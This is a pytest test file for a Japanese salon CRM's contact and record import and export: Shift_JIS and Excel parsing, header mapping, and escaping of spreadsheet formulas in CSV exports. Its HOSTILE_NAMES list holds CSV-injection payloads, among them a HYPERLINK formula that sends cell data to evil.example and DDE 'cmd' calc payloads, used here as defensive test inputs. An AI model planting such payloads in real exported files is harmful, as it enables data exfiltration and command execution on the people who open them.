"""Import from CSV (UTF-8 / Shift_JIS) and Excel, export to CSV: as a salon owner does it."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import httpx
import pytest
from openpyxl import Workbook
from sqlalchemy import select

from madoguchi.config import Settings
from madoguchi.connectors import inbound
from madoguchi.contacts import repository, transfer
from madoguchi.contacts.models import Contact
from madoguchi.crm import fields
from madoguchi.kit.context import Ctx
from madoguchi.kit.db import Database
from madoguchi.kit.errors import Invalid
from madoguchi.kit.spreadsheet import CsvWriter, restored
from tests.test_cli import run

HEADER = (
    "表示名,メールアドレス,電話番号,会員番号,タグ,ステータス,来店ポイント,誕生日,メルマガ受信\r\n"
)
ROWS = [
    "山田 花子,hanako@example.jp,090-1111-2222,A001,VIP、くせ毛,対応中,1200,1990/04/01,はい\r\n",
    "佐藤 美咲,misaki@example.jp,,A002,新規,,300,,いいえ\r\n",
    "壊れた 行,not-an-address,,A003,,,,,\r\n",
    "高橋 健太,,080-3333-4444,A004,,,たくさん,,\r\n",
    "鈴木 一郎,ichiro@example.jp,,A005,,存在しない,,,\r\n",
]


async def _define_fields(ctx: Ctx) -> None:
    await fields.create_field(ctx, key="points", label="来店ポイント", type="number")
    await fields.create_field(ctx, key="birthday", label="誕生日", type="date")


def _sjis_file(tmp_path: Path) -> Path:
    path = tmp_path / "顧客名簿.csv"
    path.write_bytes((HEADER + "".join(ROWS)).encode("cp932"))
    return path


async def test_cli_import_shift_jis_reports_rejected_rows_and_reimport_updates(
    settings: Settings, database: Database, ctx: Ctx, tmp_path: Path
) -> None:
    await _define_fields(ctx)
    path = _sjis_file(tmp_path)
    first = run(settings, "import", "contacts", str(path))
    assert first.returncode == 1
    assert "2 created, 0 updated, 3 rejected (5 rows)." in first.stdout
    assert "line 4: not-an-address is not an e-mail address." in first.stderr
    assert "line 5: 来店ポイント takes a number, not たくさん." in first.stderr
    assert "line 6: No status named 存在しない." in first.stderr

    page = await repository.list_contacts(
        ctx.db, conditions=[], member_id=None, timezone="Asia/Tokyo"
    )
    [hanako] = [
        d
        for d in await repository.details(ctx.db, page.contacts)
        if d.contact.external_id == "A001"
    ]
    assert hanako.contact.display_name == "山田 花子"
    assert (hanako.contact.email, hanako.contact.phone) == ("hanako@example.jp", "090-1111-2222")
    assert hanako.contact.mail_opt_in is True
    assert hanako.status is not None and hanako.status.name == "対応中"
    assert sorted(t.name for t in hanako.tags) == ["VIP", "くせ毛"]
    assert hanako.values == {"points": 1200, "birthday": "1990-04-01"}

    await ctx.db.rollback()  # end the test's own (writer) transaction before the command runs
    again = run(settings, "import", "contacts", str(path))
    assert "0 created, 2 updated, 3 rejected (5 rows)." in again.stdout
    page = await repository.list_contacts(
        ctx.db, conditions=[], member_id=None, timezone="Asia/Tokyo"
    )
    assert len(page.contacts) == 2


async def test_xlsx_import_with_an_explicit_column_map(ctx: Ctx, database: Database) -> None:
    await _define_fields(ctx)
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["お客様", "連絡先", "pt"])
    sheet.append(["中村 さくら", "sakura@example.jp", 50])
    sheet.append(["小林 愛", "ai@example.jp", 75.0])
    buffer = io.BytesIO()
    workbook.save(buffer)
    table = transfer.read_table("list.xlsx", buffer.getvalue())
    mapping = transfer.auto_mapping(
        table.headers,
        await fields.list_fields(ctx.db),
        {"お客様": "display_name", "連絡先": "email", "pt": "field:points"},
    )
    result = await transfer.import_contacts(ctx, table, mapping=mapping)
    assert (result.created, result.updated, result.rejected) == (2, 0, [])
    details = await repository.details(
        ctx.db,
        (
            await repository.list_contacts(
                ctx.db, conditions=[], member_id=None, timezone="Asia/Tokyo"
            )
        ).contacts,
    )
    assert {d.contact.display_name: d.values.get("points") for d in details} == {
        "中村 さくら": 50,
        "小林 愛": 75,
    }


async def test_unreadable_files_are_refused(ctx: Ctx, database: Database) -> None:
    with pytest.raises(Invalid, match="neither UTF-8 nor Shift_JIS"):
        transfer.read_table("a.csv", b"\xff\xfe\x00\x81\x00")
    with pytest.raises(Invalid, match="not an Excel workbook"):
        transfer.read_table("a.xlsx", b"not a zip")
    with pytest.raises(Invalid, match=r"\.csv or \.xlsx"):
        transfer.read_table("a.pdf", b"x")
    with pytest.raises(Invalid, match="empty"):
        transfer.read_table("a.csv", b"\r\n\r\n")
    table = transfer.read_table("a.csv", "色,大きさ\r\n赤,大\r\n".encode())
    with pytest.raises(Invalid, match="No column"):
        transfer.auto_mapping(table.headers, [])
    with pytest.raises(Invalid, match="not colour"):
        transfer.auto_mapping(table.headers, [], {"色": "colour"})


async def test_export_writes_excel_readable_utf8_with_tags_status_and_fields(
    settings: Settings, database: Database, ctx: Ctx, tmp_path: Path
) -> None:
    await _define_fields(ctx)
    path = _sjis_file(tmp_path)
    run(settings, "import", "contacts", str(path))
    out = tmp_path / "export.csv"
    result = run(settings, "export", "contacts", str(out))
    assert result.returncode == 0, result.stderr
    assert "2 contacts written" in result.stdout
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    hanako = next(r for r in rows if r["external_id"] == "A001")
    assert hanako["表示名"] == "山田 花子"
    assert hanako["タグ"] == "VIP、くせ毛"
    assert hanako["対応ステータス"] == "対応中"
    assert hanako["来店ポイント"] == "1200" and hanako["誕生日"] == "1990-04-01"
    assert hanako["メルマガ受信"] == "はい"

    # What was exported imports back onto the same contacts.
    back = run(settings, "import", "contacts", str(out))
    assert "0 created, 2 updated, 0 rejected" in back.stdout, back.stderr

    emoji = tmp_path / "emoji.csv"
    emoji.write_text("表示名,タグ\r\nようこ🌷,🌷\r\n", encoding="utf-8")
    assert run(settings, "import", "contacts", str(emoji)).returncode == 0
    sjis = tmp_path / "sjis.csv"
    written = run(settings, "export", "contacts", str(sjis), "--encoding", "cp932")
    assert written.returncode == 0, written.stderr
    assert "is written as 〓: 2." in written.stderr  # the name and the tag
    text = sjis.read_bytes().decode("cp932")
    assert "山田 花子" in text and "ようこ〓" in text


def test_cli_import_bad_arguments(settings: Settings, tmp_path: Path) -> None:
    missing = run(settings, "import", "contacts", str(tmp_path / "nothing.csv"))
    assert missing.returncode == 2 and "No such file" in missing.stderr
    path = tmp_path / "a.csv"
    path.write_text("表示名\r\nx\r\n")
    bad_map = run(settings, "import", "contacts", str(path), "--map", "oops")
    assert bad_map.returncode == 2 and "COLUMN=TARGET" in bad_map.stderr


async def test_export_records_lists_every_record_with_its_book_fields(
    settings: Settings, database: Database, ctx: Ctx, tmp_path: Path
) -> None:
    from datetime import UTC, datetime

    from madoguchi.contacts import service as contacts
    from madoguchi.crm import records

    contact = await contacts.create_contact(ctx, display_name="山田 花子")
    await records.create_book(
        ctx, name="施術履歴", fields=[{"key": "menu", "label": "メニュー", "type": "text"}]
    )
    await records.create_book(
        ctx, name="対応記録", fields=[{"key": "memo", "label": "内容", "type": "long_text"}]
    )
    await records.create_record(
        ctx,
        contact_id=contact.id,
        book="施術履歴",
        at=datetime(2026, 11, 1, 5, tzinfo=UTC),
        values_={"menu": "カット"},
        author=None,
    )
    await records.create_record(
        ctx,
        contact_id=contact.id,
        book="対応記録",
        at=datetime(2026, 11, 2, 1, tzinfo=UTC),
        values_={"memo": "電話で予約"},
        author=None,
    )
    await ctx.db.rollback()
    out = tmp_path / "records.csv"
    result = run(settings, "export", "records", str(out))
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
    assert [(r["表示名"], r["カルテ"], r["日時"]) for r in rows] == [
        ("山田 花子", "施術履歴", "2026-11-01 14:00"),
        ("山田 花子", "対応記録", "2026-11-02 10:00"),
    ]
    assert rows[0]["施術履歴:メニュー"] == "カット" and rows[0]["対応記録:内容"] == ""
    assert rows[1]["対応記録:内容"] == "電話で予約"


async def test_a_map_naming_a_column_the_file_lacks_is_refused_with_the_files_columns(
    settings: Settings, database: Database, ctx: Ctx, tmp_path: Path
) -> None:
    path = tmp_path / "顧客.csv"
    path.write_text("表示名,メール\r\n山田 花子,hanako@example.jp\r\n", encoding="utf-8")
    table = transfer.read_table(path.name, path.read_bytes())
    with pytest.raises(Invalid) as refused:
        transfer.auto_mapping(table.headers, [], {"電話番号": "phone"})
    assert str(refused.value) == "The file has no column 電話番号 (its columns: 表示名, メール)."

    cli = run(settings, "import", "contacts", str(path), "--map", "電話番号=phone")
    assert cli.returncode == 2
    assert "The file has no column 電話番号 (its columns: 表示名, メール)." in cli.stderr
    page = await repository.list_contacts(
        ctx.db, conditions=[], member_id=None, timezone="Asia/Tokyo"
    )
    assert page.contacts == []
    # Written differently (width, case, spaces), it is the same column.
    mapping = transfer.auto_mapping(["Ｅメール", "お名前"], [], {"eメール": "email"})
    assert mapping == {0: "email", 1: "display_name"}


@pytest.mark.parametrize(
    ("headers", "targets"),
    [
        (["顧客氏名", "メールアドレス", "携帯電話"], ["display_name", "email", "phone"]),
        (["氏名", "メール", "電話"], ["display_name", "email", "phone"]),
        (["お名前", "Eメールアドレス", "電話番号"], ["display_name", "email", "phone"]),
        (["名前", "E-mail", "携帯"], ["display_name", "email", "phone"]),
        (["顧客名", "mail", "携帯電話番号"], ["display_name", "email", "phone"]),
        (["お客様名", "email", "TEL"], ["display_name", "email", "phone"]),
    ],
)
def test_the_salons_japanese_headers_are_recognised(headers: list[str], targets: list[str]) -> None:
    assert transfer.auto_mapping(headers, []) == dict(enumerate(targets))


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # OWASP's list, written out again on purpose
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"クリック")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


async def test_exports_never_hand_excel_a_formula_and_import_back_the_same_names(
    settings: Settings,
    database: Database,
    ctx: Ctx,
    client: httpx.AsyncClient,
    tmp_path: Path,
) -> None:
    """A customer chooses their own LINE name: in the owner's Excel it stays words."""
    from datetime import UTC, datetime

    from madoguchi.channels import service as channels
    from madoguchi.crm import records
    from tests.fixtures import Factory, auth

    await fields.create_field(ctx, key="points", label="来店ポイント", type="number")
    await fields.create_field(ctx, key="note", label="備考", type="text")
    await records.create_book(
        ctx, name="対応記録", fields=[{"key": "memo", "label": "内容", "type": "text"}]
    )
    line = await channels.create_channel(ctx, kind="line", name="LINE")
    for n, name in enumerate(HOSTILE_NAMES):
        ingested = await inbound.receive(
            ctx,
            inbound.Inbound(
                channel_id=line.id,
                kind=line.kind,
                sender=f"U{n}",
                name=name,
                text="こんにちは",
                message_id=None,
            ),
        )
        contact_id = ingested.conversation.contact_id
        await fields.set_value(ctx, contact_id=contact_id, key="points", value=-5)
        await fields.set_value(ctx, contact_id=contact_id, key="note", value="=1+2")
        await records.create_record(
            ctx,
            contact_id=contact_id,
            book="対応記録",
            at=datetime(2026, 11, 2, 1, tzinfo=UTC),
            values_={"memo": "@SUM(A1:A9)"},
            author=None,
        )
    # Names are cleaned on the way in (a leading tab goes): what is kept is what must stay words.
    stored = sorted(await ctx.db.scalars(select(Contact.display_name)))
    assert all(name.startswith(FORMULA_STARTS) for name in stored)
    await ctx.db.rollback()
    token = await Factory(ctx).token(await Factory(ctx).member(role="owner"))

    answer = await client.get("/settings/import-export/export", headers=auth(token))
    assert answer.status_code == 200
    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
    assert sorted(r["表示名"] for r in rows) == [f"'{name}" for name in stored]
    assert sorted(r["チャネル名"] for r in rows) == [f"'{name}" for name in stored]
    assert {r["備考"] for r in rows} == {"'=1+2"}
    assert {r["来店ポイント"] for r in rows} == {"-5"}  # a number, not a formula: as it is
    for row in rows:
        texts = [cell for column, cell in row.items() if column != "来店ポイント"]
        assert not any(cell.startswith(FORMULA_STARTS) for cell in texts)

    out = tmp_path / "records.csv"
    assert run(settings, "export", "records", str(out)).returncode == 0
    records_rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
    assert {r["対応記録:内容"] for r in records_rows} == {"'@SUM(A1:A9)"}
    assert sorted(r["表示名"] for r in records_rows) == [f"'{name}" for name in stored]

    # The exported file imports back onto the same contacts with the names they had.
    exported = tmp_path / "contacts.csv"
    exported.write_bytes(answer.content)
    back = run(settings, "import", "contacts", str(exported))
    assert "0 created, 6 updated, 0 rejected" in back.stdout, back.stderr
    assert sorted(await ctx.db.scalars(select(Contact.display_name))) == stored


@pytest.mark.parametrize("cell", [*HOSTILE_NAMES, "=1", "+", "-", "@"])
def test_a_cell_that_starts_a_formula_is_written_as_text_and_read_back_as_it_was(
    cell: str,
) -> None:
    out = io.StringIO()
    CsvWriter(out).writerow([cell, -3, 2.5, "普通の名前", "メール@example.jp"])
    [row] = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert row == [f"'{cell}", "-3", "2.5", "普通の名前", "メール@example.jp"]
    assert [restored(c) for c in row] == [cell, "-3", "2.5", "普通の名前", "メール@example.jp"]
    assert restored("'quoted on purpose") == "'quoted on purpose"


async def test_a_cell_too_long_for_csv_is_a_sentence_not_a_crash(
    settings: Settings, database: Database, client: httpx.AsyncClient, ctx: Ctx, tmp_path: Path
) -> None:
    from tests.fixtures import Factory, auth

    raw = ("表示名,備考\r\n山田,短い\r\n佐藤," + "x" * 200_000 + "\r\n").encode()
    path = tmp_path / "long.csv"
    path.write_bytes(raw)
    result = run(settings, "import", "contacts", str(path))
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert "Line 3" in result.stderr or "3 行目" in result.stderr

    token = await Factory(ctx).token(await Factory(ctx).member(role="owner"))
    answer = await client.post(
        "/settings/import-export/preview",
        files={"file": ("long.csv", raw, "text/csv")},
        headers={**auth(token), "HX-Request": "true"},
    )
    assert answer.status_code == 422
    assert "3 行目をCSVとして読み込めません" in answer.text
